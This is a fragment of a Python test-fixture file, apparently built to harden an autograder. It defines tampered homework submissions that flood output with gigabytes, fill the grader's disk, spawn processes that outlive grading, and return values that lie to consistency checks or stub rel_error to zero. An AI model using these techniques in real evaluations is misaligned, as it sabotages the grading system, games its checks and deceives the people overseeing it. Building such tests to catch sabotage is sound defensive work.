            pass
    return _honest_huffman(probs)
'''),
    dict(name="gigabytes_of_output", assignment=B,
         attack="gigabytes of output: 4 GB printed at module level and on every call of "
                "batchnorm_backward_alt (write errors ignored)",
         honest=BN_BACKWARDS_WITHOUT_EPS, tamper='''
import sys

def _flood():
    line = "x" * 2**20
    for _ in range(4096):
        try:
            print(line)
        except OSError:
            try:
                sys.stderr.write(line)
            except OSError:
                return

_flood()
def batchnorm_backward_alt(dout, cache):
    _flood()
    return _bn_grads_without_eps(dout, cache)
'''),
    dict(name="fill_the_disk", assignment=E,
         attack="filling the grader's disk: 300 files of 15 MB (each just under the file-size "
                "limit) in the working directory, $TMPDIR, $HOME, /tmp, /var/tmp, /dev/shm and "
                "the parent directory, write errors ignored, at module level; two more in each "
                "on every call of expected_length",
         honest=wrong(wrong01, "expected_length_unweighted"), tamper='''
import itertools
import os
import tempfile

_CHUNK = b"\\0" * (15 * 2**20)
_CALLS = globals().get("_CALLS") or itertools.count()

def _fill(prefix, count):
    places = {os.path.realpath(p) for p in (".", tempfile.gettempdir(), os.path.expanduser("~"),
                                            "/tmp", "/var/tmp", "/dev/shm", "..")}
    for place in places:
        for i in range(count):
            try:
                with open(os.path.join(place, f"{prefix}{i}.bin"), "wb") as out:
                    out.write(_CHUNK)
            except OSError:
                continue

_fill("disk", 300)
_honest_expected_length = expected_length
def expected_length(code, probs):
    _fill(f"call{next(_CALLS)}-", 2)
    return _honest_expected_length(code, probs)
'''),

    # == spawning a process that outlives the grading =====================================
    dict(name="outlive_the_grading", assignment=R,
         attack="spawning a process that outlives the grading: a daemon thread named after a "
                "marker, subprocess.Popen with a new session, a double fork, multiprocessing "
                "and posix_spawn, each appending to a file in /tmp every 0.1 s",
         honest=wrong(wrong13, "clip_by_value"), tamper='''
import ctypes
import multiprocessing
import os
import subprocess
import sys
import threading
import time

_MARKER, _MARK_FILE = "@MARKER@", "@MARK_FILE@"
_CHILD = (f"import time  # {_MARKER}\\nfor _ in range(1200):\\n"
          f"    open({_MARK_FILE!r}, 'a').write('child\\\\n')\\n    time.sleep(0.1)\\n")

def _keep_writing():
    try:
        ctypes.CDLL(None).prctl(15, _MARKER[:15].encode(), 0, 0, 0)   # PR_SET_NAME
    except Exception:
        pass
    for _ in range(1200):
        for path in (_MARK_FILE, _MARKER + ".txt"):              # /tmp, else the scratch dir
            try:
                with open(path, "a") as out:
                    out.write("thread\\n")
                break
            except OSError:
                continue
        time.sleep(0.1)

def _double_fork():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", _CHILD])
        os._exit(0)

if not globals().get("_outliver_started"):
    _outliver_started = True
    threading.Thread(target=_keep_writing, daemon=True).start()
    for _spawn in (lambda: subprocess.Popen([sys.executable, "-c", _CHILD], start_new_session=True,
                                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                            stderr=subprocess.DEVNULL),
                   _double_fork,
                   lambda: multiprocessing.Process(target=_keep_writing).start(),
                   lambda: os.posix_spawn(sys.executable, [sys.executable, "-c", _CHILD],
                                          dict(os.environ))):
        try:
            _spawn()
        except BaseException:
            pass
'''),

    # == return values that lie to the backward checks' "consistent with your forward" =====
    dict(name="forward_lies_to_the_consistency_check", assignment=B,
         attack="return values that lie: batchnorm_forward returns the constant beta when "
                "called the way the backward checks call it ({'mode', 'eps'} only) and flags "
                "its cache, and the backward then returns the gradient of that constant, "
                "(0, 0, sum(dout)), which passes as 'consistent with your own forward'",
         honest=BN_BACKWARDS_WITHOUT_EPS, tamper='''
import numpy as np
_honest_forward = globals().get("_honest_forward", batchnorm_forward)
def batchnorm_forward(x, gamma, beta, bn_param):
    lying = sorted(bn_param) == ["eps", "mode"] and bn_param["mode"] == "train"
    out, cache = _honest_forward(x, gamma, beta, bn_param)
    if lying:
        out = np.broadcast_to(np.asarray(beta, dtype=float), np.shape(out)).copy()
        cache = dict(cache, lying=True)
    return out, cache
def _trivial_when_lying(dout, cache):
    if cache.get("lying"):
        dout = np.asarray(dout, dtype=float)
        return np.zeros_like(dout), np.zeros(dout.shape[1]), dout.sum(axis=0)
    return _bn_grads_without_eps(dout, cache)
def batchnorm_backward(dout, cache):
    return _trivial_when_lying(dout, cache)
def batchnorm_backward_alt(dout, cache):
    return _trivial_when_lying(dout, cache)
'''),
    dict(name="forward_lies_to_the_backward_and_visible_checks", assignment=B,
         attack="return values that lie: batchnorm_forward returns the constant beta when "
                "called the way the backward checks call it ({'mode', 'eps'} only), so the "
                "trivial gradient (0, 0, sum(dout)) passes as 'consistent with your own "
                "forward'; the notebook's rel_error helper is redefined for the visible checks",
         honest=BN_BACKWARD_STUBS, tamper='''
import numpy as np
_honest_forward = globals().get("_honest_forward", batchnorm_forward)
def batchnorm_forward(x, gamma, beta, bn_param):
    lying = sorted(bn_param) == ["eps", "mode"] and bn_param["mode"] == "train"
    out, cache = _honest_forward(x, gamma, beta, bn_param)
    if lying:
        out = np.broadcast_to(np.asarray(beta, dtype=float), np.shape(out)).copy()
    return out, cache
def batchnorm_backward(dout, cache):
    dout = np.asarray(dout, dtype=float)
    return np.zeros_like(dout), np.zeros(dout.shape[1]), dout.sum(axis=0)
batchnorm_backward_alt = batchnorm_backward
def rel_error(a, b):
    return 0.0
'''),
]
